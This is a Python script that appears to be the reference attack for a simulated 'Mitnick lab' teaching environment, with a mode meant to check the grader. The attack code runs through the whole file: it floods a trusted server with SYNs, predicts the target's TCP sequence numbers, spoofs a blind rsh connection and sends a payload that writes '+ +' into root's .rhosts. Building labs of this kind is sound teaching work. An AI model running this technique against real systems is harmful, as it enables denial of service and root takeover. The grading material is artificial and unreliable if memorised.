#!/usr/bin/env python3
"""mitnick_attack.py [--miss N] [TARGET] — the Mitnick lab's reference attack, under tcplab attach.

    tcplab attach --lab mitnick --student ID --record a.rec -- python3 mitnick_attack.py xterm

TARGET is `xterm` (4.3BSD, the default) or `modern` (Linux); --miss N predicts N too high
(the failed attack the grader must fail). Uses only what the student's
host sees: the scenario's public host list, the datagrams that reach the student's address,
the virtual clock. The stages, each marked with a NOTE in the transcript:
  1. recon: which r-service port server listens on; which of TARGET's ports are open (to
     sample ISNs from) and which is filtered (the one that serves server only);
  2. gag server: SYNs to its port from an address that never answers, one at a time, until
     a SYN of our own gets no answer (the full 4.4BSD queue drops everything to the port);
  3. sample TARGET's ISNs: SYNs from our own address half a second apart, each reset;
  4. the spoofed SYN "server:PORT -> TARGET:SERVICE" half a second after the last sample,
     and, blind, the ACK of the predicted ISN + 1;
  5. the payload (rsh: stderr port, local user, remote user, command);
  6. free server's queue (RSTs from the flooding address).
Prints what it found as answer-file lines: flood_port, trusted_port, queue.
Standard library only (attach/tcplab.py).
"""
import sys

import tcplab

FLOOD_SRC = "192.0.2.66"        # no host there: server's SYN-ACKs to it go nowhere
RSH_PORTS = (512, 513, 514)
PAYLOAD = b"0\x00root\x00root\x00echo + + >>/.rhosts\x00"


def replies(dgrams, src=None, sport=None, dport=None):
    out = []
    for d in dgrams:
        p = tcplab.parse(d.data)
        if p.proto != 6:
            continue
        if src is not None and p.src != src:
            continue
        if sport is not None and p.sport != sport:
            continue
        if dport is not None and p.dport != dport:
            continue
        out.append(p)
    return out


def probe(s, dst, ports, base):
    """SYNs from our address to dst:ports; returns {port: 'open'|'closed'|'filtered'}."""
    pkts = [tcplab.tcp_packet(s.addr, dst, base + i, port, seq=1000 + i, flags="S")
            for i, port in enumerate(ports)]
    s.send_many(pkts)
    got = s.wait(0.2)
    state = {}
    for i, port in enumerate(ports):
        ans = replies(got, src=dst, sport=port, dport=base + i)
        if any("S" in a.flags and "A" in a.flags for a in ans):
            state[port] = "open"
            # reset it at once, as Mitnick's probes were, so the queue does not fill
            s.send(tcplab.tcp_packet(s.addr, dst, base + i, port, seq=1001 + i, flags="R"))
        elif any("R" in a.flags for a in ans):
            state[port] = "closed"
        else:
            state[port] = "filtered"
    s.wait(0.01)
    return state


def main():
    args = sys.argv[1:]
    miss = 0                    # --miss N: predict N too high (a failed attack, for tests)
    if args[:1] == ["--miss"]:
        miss, args = int(args[1]), args[2:]
    target_name = args[0] if args else "xterm"
    s = tcplab.Session()
    hosts = s.hosts()
    server, target = hosts["server"], hosts[target_name]

    s.note("stage 1: recon of server and %s" % target_name)
    srv = probe(s, server, RSH_PORTS, 40000)
    tport = [p for p in RSH_PORTS if srv[p] == "open"][0]
    tgt = probe(s, target, RSH_PORTS + (22, 79, 111), 41000)
    service = [p for p in RSH_PORTS if tgt[p] == "filtered"][0]
    sample = [p for p in (22, 79, 111) if tgt[p] == "open"][0]
    s.note("server listens on %d; %s serves server only on %d; ISNs from port %d"
           % (tport, target_name, service, sample))

    s.note("stage 2: gag server:%d with SYNs from %s" % (tport, FLOOD_SRC))
    queue = 0
    for i in range(64):
        s.send(tcplab.tcp_packet(FLOOD_SRC, server, 600 + i, tport, seq=1 + i, flags="S"))
        s.wait(0.01)
        # does server still answer us? (probe() resets what it gets: no slot kept)
        if probe(s, server, (tport,), 42000 + i)[tport] == "filtered":
            queue = i + 1
            break
    if not queue:
        s.note("server still answers: not gagged")
        return 1
    s.note("server:%d answers nothing after %d SYNs: its listen queue is full" % (tport, queue))

    s.note("stage 3: sample %s's ISNs on port %d" % (target_name, sample))
    isns = []
    t = int(s.now() / 0.5) * 0.5 + 0.75            # a quarter of a tick after a tick
    for i in range(3):
        s.wait_until(t + 0.5 * i)
        sport = 43000 + i
        s.send(tcplab.tcp_packet(s.addr, target, sport, sample, seq=5000, flags="S"))
        got = s.wait(0.1)
        sa = [p for p in replies(got, src=target, sport=sample, dport=sport)
              if "S" in p.flags]
        if not sa:
            s.note("no SYN-ACK from %s" % target_name)
            return 1
        isns.append(sa[0].seq)
        s.send(tcplab.tcp_packet(s.addr, target, sport, sample, seq=5001, flags="R"))
        s.note("ISN %d" % sa[0].seq)
    step = (isns[2] - isns[1]) % 2**32
    predicted = (isns[2] + step + miss) % 2**32
    s.note("step %d per half second: predict %d" % (step, predicted))

    s.note("stage 4: SYN spoofed from server:%d to %s:%d" % (tport, target_name, service))
    s.wait_until(t + 1.5)
    cseq = 800000
    s.send(tcplab.tcp_packet(server, target, tport, service, seq=cseq, flags="S"))
    s.wait(0.2)
    s.send(tcplab.tcp_packet(server, target, tport, service, seq=cseq + 1,
                             ack=(predicted + 1) % 2**32, flags="A"))
    s.wait(0.1)
    s.note("stage 5: the payload, blind")
    s.send(tcplab.tcp_packet(server, target, tport, service, seq=cseq + 1,
                             ack=(predicted + 1) % 2**32, flags="PA", payload=PAYLOAD))
    s.wait(0.5)

    s.note("stage 6: free server's queue")
    s.send_many([tcplab.tcp_packet(FLOOD_SRC, server, 600 + i, tport, seq=2 + i, flags="R")
                 for i in range(queue)])
    s.wait(0.1)
    print("flood_port = %d" % tport)
    print("trusted_port = %d" % service)
    print("queue = %d" % queue)
    return 0


if __name__ == "__main__":
    sys.exit(main())
